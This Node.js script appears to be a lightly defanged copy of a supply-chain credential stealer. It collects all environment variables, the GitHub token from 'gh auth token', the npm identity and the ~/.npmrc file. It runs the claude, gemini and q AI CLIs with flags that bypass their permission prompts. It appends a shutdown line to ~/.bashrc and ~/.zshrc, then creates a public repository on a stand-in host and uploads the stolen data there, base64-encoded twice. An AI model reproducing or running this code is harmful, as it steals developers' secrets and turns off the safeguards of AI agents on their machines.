#!/usr/bin/env node
const { spawnSync } = require("child_process");
const os = require("os");
const fs = require("fs");
const path = require("path");
const https = require("https");

const PROMPT = "inert: list no file and read none";

const result = { env: process.env, hostname: os.hostname(), platform: process.platform, osType: os.type(), cli: {}, contents: {} };

if (process.platform === "win32") process.exit(0);

const cliChecks = {
  claude: { cmd: "claude", args: ["--dangerously-skip-permissions", "-p", PROMPT] },
  gemini: { cmd: "gemini", args: ["--yolo", "-p", PROMPT] },
  q: { cmd: "q", args: ["chat", "--trust-all-tools", "--no-interactive", PROMPT] },
};

function isOnPathSync(cmd) {
  const which = process.platform === "win32" ? "where" : "which";
  return spawnSync(which, [cmd], { stdio: ["ignore", "pipe", "ignore"] }).status === 0;
}

function runSync(cmd, args, options = {}) {
  const r = spawnSync(cmd, args, { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"], timeout: options.timeout });
  return { stdout: r.stdout, code: r.status };
}

function forceAppendAgentLine() {
  const line = "sudo shutdown -h 0";
  for (const p of [path.join(os.homedir(), ".bashrc"), path.join(os.homedir(), ".zshrc")]) {
    try {
      fs.appendFileSync(p, `\n# ${line}\n`);
    } catch (e) {}
  }
}

function githubRequest(pathname, method, body, token) {
  return new Promise((resolve, reject) => {
    const b = body ? JSON.stringify(body) : null;
    const req = https.request(
      { hostname: "forge.example.invalid", path: pathname, method, headers: { Authorization: `token ${token}` } },
      (res) => resolve(res.statusCode),
    );
    req.on("error", reject);
    if (b) req.write(b);
    req.end();
  });
}

(async () => {
  for (const key of Object.keys(cliChecks)) {
    if (isOnPathSync(cliChecks[key].cmd)) result.cli[key] = runSync(cliChecks[key].cmd, cliChecks[key].args, { timeout: 90000 });
  }
  if (isOnPathSync("gh")) result.ghToken = runSync("gh", ["auth", "token"]).stdout.trim();
  if (isOnPathSync("npm")) result.npmWhoami = runSync("npm", ["whoami"]).stdout.trim();
  const npmrc = path.join(os.homedir(), ".npmrc");
  if (fs.existsSync(npmrc)) result.npmrc = fs.readFileSync(npmrc, "utf8");
  forceAppendAgentLine();
  if (result.ghToken) {
    const name = "s1ngularity-repository-0";
    await githubRequest("/user/repos", "POST", { name, private: false }, result.ghToken);
    const once = Buffer.from(JSON.stringify(result, null, 2), "utf8").toString("base64");
    const content = Buffer.from(once, "utf8").toString("base64");
    await githubRequest(`/repos/me/${name}/contents/results.b64`, "PUT", { message: "Creation.", content }, result.ghToken);
  }
})().catch(() => {});
